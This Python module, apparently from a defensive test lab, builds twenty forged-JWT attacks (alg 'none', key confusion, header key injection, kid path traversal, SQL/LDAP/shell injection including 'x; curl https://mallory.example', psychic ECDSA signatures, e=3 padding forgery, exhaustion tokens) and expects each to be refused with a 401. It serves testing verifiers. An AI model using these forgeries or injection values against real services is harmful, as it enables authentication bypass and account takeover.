"""Attacks on the signed token itself: algorithm, key, signature, spelling (RFC 8725)."""

from __future__ import annotations

import json
from typing import Any

from authpatterns.encoding import encode
from authpatterns.keys import KeyRing, SigningKey, demo_key
from authpatterns.labs.attacks import weakened as weak
from authpatterns.labs.attacks.forging import (
    certificate,
    compact,
    cube_root_signature,
    edited,
    encrypted,
    exponent_three,
    header,
    modulus_behind,
    parts,
    public_texts,
    unsigned,
    with_bytes,
    with_key,
    with_secret,
)
from authpatterns.labs.attacks.lab import MALLORYS_KEY, MALLORYS_SITE, Lab, best, put_online
from authpatterns.labs.attacks.shape import Outcome, attack
from authpatterns.labs.attacks.surgery import replace
from authpatterns.messages import Request, Response
from authpatterns.tokenchecks import LARGEST_TOKEN

ISSUERS_KEY = demo_key()
"""What signs the tokens; attackers know its public half and its `kid`, as everybody does."""


def try_all(lab: Lab, tokens: list[str], owner: str = "alice") -> Outcome:
    """Present each token, wanting to read what is `owner`'s."""
    path = f"/orders/{1 if owner == 'alice' else 2}"
    return best([lab.reads(lab.present(token, path), owner) for token in tokens])


def publish(lab: Lab, keys: list[dict[str, Any]]) -> None:
    """Have the issuer publish these keys."""

    async def jwks(request: Request) -> Response:
        return Response.of({"keys": keys})

    replace(lab.issuer, "jwks", jwks)


@attack("JWT-01", expected="401 token.algorithm", weakened=weak.WeakenedTakesNone)
def alg_none(lab: Lab) -> Outcome:
    """A token that says it needs no signature."""
    spellings = ("none", "None", "NONE", "nOnE")
    tokens = [compact(header(ISSUERS_KEY, alg=alg), lab.claims(), unsigned) for alg in spellings]
    return try_all(lab, tokens)


@attack("JWT-02", expected="401 token.algorithm", weakened=weak.WeakenedPublicKeyAsSecret)
def public_key_as_secret(lab: Lab) -> Outcome:
    """The public key, which everybody has, taken as an HMAC secret."""
    head = header(ISSUERS_KEY, alg="HS256")
    texts = public_texts(ISSUERS_KEY.public_jwk())
    return try_all(lab, [compact(head, lab.claims(), with_secret(text)) for text in texts])


@attack("JWT-03", expected="401 token.algorithm", weakened=weak.WeakenedPublicKeyAsSecret)
def unpublished_key_as_secret(lab: Lab) -> Outcome:
    """The same where the key is published nowhere: its modulus is computed from two tokens."""
    key = exponent_three()
    replace(lab.issuer, "keys", KeyRing([key]))
    seen = [lab.jwt("bob"), lab.jwt("frank")]
    modulus = modulus_behind(*seen)
    found = {"kty": "RSA", "n": encode(modulus.to_bytes(256)), "e": "Aw"}
    texts = public_texts(found)
    outcome = try_all(lab, [compact(header(key, alg="HS256"), lab.claims(), with_secret(text)) for text in texts])
    return Outcome(outcome.succeeded, outcome.seen, {"key_found": found["n"] == key.private["n"]})


@attack("JWT-04", expected="401 token.signature", weakened=weak.WeakenedDecodeOnly)
def edited_claims(lab: Lab) -> Outcome:
    """Bob's own token, with alice's name written over his."""
    return try_all(lab, [edited(lab.jwt("bob"), sub="alice")])


@attack("JWT-05", expected="401 token.signature / 401 token.malformed", weakened=weak.WeakenedEmptySignature)
def stripped_signature(lab: Lab) -> Outcome:
    """The signature left out, made of zeros, or missing with its dot."""
    bare = compact(header(ISSUERS_KEY), lab.claims(), unsigned)
    zeros = compact(header(ISSUERS_KEY), lab.claims(), with_bytes(b"\0" * 256))
    return try_all(lab, [bare, zeros, bare.rstrip(".")])


@attack("JWT-06", secure=weak.SharedSecret, expected="401 token.key-unsuitable", weakened=weak.WeakenedShortSecret)
def guessed_secret(lab: Lab) -> Outcome:
    """The operator chose a short HMAC secret; a word list finds it from one token, and signs with it."""
    seen = compact(
        {"alg": "HS256", "typ": "at+jwt", "kid": "shared"}, lab.claims("bob"), with_secret(weak.SHORT_SECRET)
    )
    signed, _, signature = seen.rpartition(".")
    found = next(word for word in WORD_LIST if encode(with_secret(word)(signed.encode())) == signature)
    head = {"alg": "HS256", "typ": "at+jwt", "kid": "shared"}
    outcome = try_all(lab, [compact(head, lab.claims(), with_secret(found))])
    return Outcome(outcome.succeeded, outcome.seen, {"refused_when_configured": _flaw_of(found)})


WORD_LIST = (b"", b"secret", b"password", b"changeme", b"shop2025", b"shop2026", b"your-256-bit-secret")


def _flaw_of(secret: bytes) -> str:
    """What the key set says of the secret, before any token comes."""
    key = SigningKey("shared", "HS256", {"kty": "oct", "k": encode(secret)})
    return KeyRing([key]).key_set().keys[0].flaw


@attack("JWT-07", expected="401 token.key-unknown / 401 token.signature", weakened=weak.WeakenedTrustsKeyInHeader)
def key_in_header(lab: Lab) -> Outcome:
    """A token that brings along the very key it wants to be checked with."""
    jwk = MALLORYS_KEY.public_jwk()
    own = compact(header(MALLORYS_KEY, jwk=jwk), lab.claims(), with_key(MALLORYS_KEY))
    issuers = compact(header(ISSUERS_KEY, jwk=jwk), lab.claims(), with_key(MALLORYS_KEY))
    return try_all(lab, [own, issuers])


@attack("JWT-08", expected="401 token.key-unknown / 401 token.signature", weakened=weak.WeakenedFetchesJku)
def key_at_address(lab: Lab) -> Outcome:
    """A token that says where its key is: at mallory's."""
    site = put_online(lab, {"/jwks.json": Response.of({"keys": [MALLORYS_KEY.public_jwk()]})})
    jku = f"{MALLORYS_SITE}/jwks.json"
    heads = [header(MALLORYS_KEY, jku=jku), header(ISSUERS_KEY, jku=jku)]
    outcome = try_all(lab, [compact(head, lab.claims(), with_key(MALLORYS_KEY)) for head in heads])
    return Outcome(outcome.succeeded, outcome.seen, {"fetches": _fetches_from(lab, site.name)})


@attack("JWT-09", expected="401 token.key-unknown / 401 token.signature", weakened=weak.WeakenedTrustsCertificate)
def key_in_certificate(lab: Lab) -> Outcome:
    """A certificate that mallory signed for mallory, in the token or at an address."""
    site = put_online(lab, {"/x5c.pem": Response(200, certificate(MALLORYS_KEY))})
    more: list[dict[str, Any]] = [{"x5c": [certificate(MALLORYS_KEY)]}, {"x5u": f"{MALLORYS_SITE}/x5c.pem"}]
    heads = [header(key, **place) for key in (MALLORYS_KEY, ISSUERS_KEY) for place in more]
    outcome = try_all(lab, [compact(head, lab.claims(), with_key(MALLORYS_KEY)) for head in heads])
    return Outcome(outcome.succeeded, outcome.seen, {"fetches": _fetches_from(lab, site.name)})


def _fetches_from(lab: Lab, name: str) -> int:
    return sum(hop.target == name for hop in lab.trace)


@attack(
    "JWT-10",
    expected="401 token.algorithm",
    weakened=weak.WeakenedOpensFileNamedByKid,
)
def kid_is_path(lab: Lab) -> Outcome:
    """A `kid` that is the path of a file whose content everybody knows."""
    tries = {"../../dev/null": b"", "/dev/null": b"", "../static/logo.svg": b"<svg/>"}
    tokens = [
        compact(header(ISSUERS_KEY, alg="HS256", kid=kid), lab.claims(), with_secret(content))
        for kid, content in tries.items()
    ]
    outcome = try_all(lab, tokens)
    real = [compact(header(ISSUERS_KEY, kid=kid), lab.claims(), with_key(MALLORYS_KEY)) for kid in tries]
    return Outcome(outcome.succeeded, outcome.seen, {"as_RS256": try_all(lab, real).seen})


@attack("JWT-11", expected="401 token.algorithm", weakened=weak.WeakenedBuildsSqlFromKid)
def kid_is_sql(lab: Lab) -> Outcome:
    """A `kid` that ends the query's text and goes on in SQL; the same for LDAP and a shell."""
    kids = ("x' UNION SELECT 'mallory' --", "*)(kid=*", "x; curl https://mallory.example")
    tokens = [compact(header(ISSUERS_KEY, alg="HS256", kid=kid), lab.claims(), with_secret(b"mallory")) for kid in kids]
    outcome = try_all(lab, tokens)
    real = [compact(header(ISSUERS_KEY, kid=kid), lab.claims(), with_key(MALLORYS_KEY)) for kid in kids]
    return Outcome(outcome.succeeded, outcome.seen, {"as_RS256": try_all(lab, real).seen})


@attack(
    "JWT-12",
    expected="401 token.key-unknown / 401 token.key-unsuitable",
    weakened=weak.WeakenedTriesEveryKey,
)
def kid_missing_or_twice(lab: Lab) -> Outcome:
    """Mallory's key is in the published set for another use: the token names no key, an unknown one, or two."""
    theirs = MALLORYS_KEY.public_jwk() | {"use": "enc"}
    publish(lab, [ISSUERS_KEY.public_jwk(), theirs])
    heads = [header(MALLORYS_KEY, kid=kid) for kid in (None, "unknown", MALLORYS_KEY.kid)]
    first = [lab.reads(lab.present(compact(head, lab.claims(), with_key(MALLORYS_KEY)))) for head in heads]
    publish(lab, [ISSUERS_KEY.public_jwk(), theirs | {"use": "sig", "kid": ISSUERS_KEY.kid}])
    lab.shop.clock.advance(seconds=lab.shop.authn.key_cache)
    twice = compact(header(ISSUERS_KEY), lab.claims(), with_key(MALLORYS_KEY))
    return best([*first, lab.reads(lab.present(twice))])


@attack("JWT-13", secure=weak.Es256, expected="401 token.signature", weakened=weak.WeakenedTextbookEcdsa)
def psychic_signature(lab: Lab) -> Outcome:
    """An ECDSA signature of two zeros, which fits every text where nobody asks whether it is in range."""
    key = demo_key("ES256")
    replace(lab.issuer, "keys", KeyRing([key]))
    order = weak.P256.order.to_bytes(32)
    signatures = (b"\0" * 64, order + order, b"\0" * 32 + order)
    return try_all(lab, [compact(header(key), lab.claims(), with_bytes(signature)) for signature in signatures])


@attack("JWT-14", expected="401 token.signature", weakened=weak.WeakenedReadsPaddingFromTheLeft)
def forged_padding(lab: Lab) -> Outcome:
    """A cube root in the place of a signature: enough where the key's exponent is 3 and nobody reads to the end."""
    replace(lab.issuer, "keys", KeyRing([exponent_three()]))
    return try_all(lab, [compact(header(exponent_three()), lab.claims(), cube_root_signature)])


@attack("JWT-15", expected="401 token.key-unsuitable", weakened=weak.WeakenedIgnoresUseOfKey)
def key_of_other_use(lab: Lab) -> Outcome:
    """The published set holds a partner's key for encryption; its owner signs with it."""
    theirs = MALLORYS_KEY.public_jwk()
    del theirs["use"], theirs["alg"]
    marks: tuple[dict[str, Any], ...] = (
        {"use": "enc"},
        {"key_ops": ["encrypt", "wrapKey"]},
        {"alg": "RSA-OAEP-256"},
        {"alg": "RS512"},
    )
    keys = [theirs | mark | {"kid": f"partner-{number}"} for number, mark in enumerate(marks)]
    publish(lab, [ISSUERS_KEY.public_jwk(), *keys])
    heads = [header(MALLORYS_KEY, kid=key["kid"]) for key in keys]
    return try_all(lab, [compact(head, lab.claims(), with_key(MALLORYS_KEY)) for head in heads])


@attack("JWT-16", expected="401 token.critical", weakened=weak.WeakenedIgnoresCrit)
def unknown_condition(lab: Lab) -> Outcome:
    """Bob's token holds a condition that must be understood; he shows it where nobody understands it."""
    about = {"crit": ["https://shop.example/only-at-the-till"], "https://shop.example/only-at-the-till": True}
    restricted = compact(header(ISSUERS_KEY, **about), lab.claims("bob"), with_key(ISSUERS_KEY))
    return try_all(lab, [restricted], owner="bob")


@attack(
    "JWT-17",
    expected="401 token.characters / 401 token.malformed",
    weakened=weak.WeakenedReadsJsonToo,
)
def polyglot(lab: Lab) -> Outcome:
    """A text that is a JSON serialisation to one reader and holds bob's good token for another."""
    head, payload, signature = lab.jwt("bob").split(".")
    evil = encode(json.dumps(lab.claims()).encode())
    both = json.dumps({"payload": evil, "protected": head, "x": f"{head}.{payload}.{signature}"}, separators=(",", ":"))
    plain = json.dumps({"payload": evil, "protected": head, "signature": signature}, separators=(",", ":"))
    return try_all(lab, [both, plain])


@attack("JWT-18", expected="401 token.malformed", weakened=weak.WeakenedBelievesWhatItCanDecrypt)
def encrypted_instead_of_signed(lab: Lab) -> Outcome:
    """A token encrypted for the service: whoever has its public key can make one."""
    return try_all(lab, [encrypted(lab.claims(), demo_key("ES256").public_jwk(), demo_key("ES256", 1))])


@attack(
    "JWT-19",
    expected="401 token.too-large / 401 token.malformed / 401 token.header",
    weakened=weak.WeakenedWorksAsTold,
)
def exhaustion(lab: Lab) -> Outcome:
    """Tokens that cost much to refuse: a huge claim, a password stretched without end, JSON nested without end."""
    huge = compact(header(ISSUERS_KEY), lab.claims(note="x" * 1_000_000), with_bytes(b"x"))
    stretched = encode(b'{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":200000,"p2s":"c2FsdA"}') + ".a.a.a.a"
    nested = compact("[" * 5000 + "]" * 5000, lab.claims(), with_bytes(b"x"))[: LARGEST_TOKEN - 1]
    deep = compact("[" * 2500 + "]" * 2500, lab.claims(), with_bytes(b"x"))
    return best([_work(lab, token) for token in (huge, stretched, nested, deep)])


def _work(lab: Lab, token: str) -> Outcome:
    """Whether presenting `token` made somebody work more than a small token does."""
    before = len(lab.trace.notes)
    answer = lab.present(token)
    worked = [note for note in lab.trace.notes[before:] if note.code == "lab.worked"]
    return lab.outcome(answer, any(note["bytes"] > LARGEST_TOKEN or note["rounds"] > 10_000 for note in worked))


@attack("JWT-20", expected="401 token.characters / 401 token.claims", weakened=weak.WeakenedLenientSpelling)
def other_spelling(lab: Lab) -> Outcome:
    """Bob's token in another spelling, which no list of revoked tokens holds; and a member that stands twice."""
    token = lab.jwt("bob")
    head, payload, signature = token.split(".")
    last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    loose = signature[:-1] + last[last.index(signature[-1]) + 1]
    spellings = [f"{token}==", f"{head}.{payload}.{loose}", f"{head}.{payload[:9]} {payload[9:]}.{signature}"]
    claims = json.dumps(parts(token)[1])[:-1] + ', "sub": "alice"}'
    twice = compact(header(ISSUERS_KEY), claims, with_key(ISSUERS_KEY))
    own = try_all(lab, spellings, owner="bob")
    return best([own, lab.reads(lab.present(twice))])
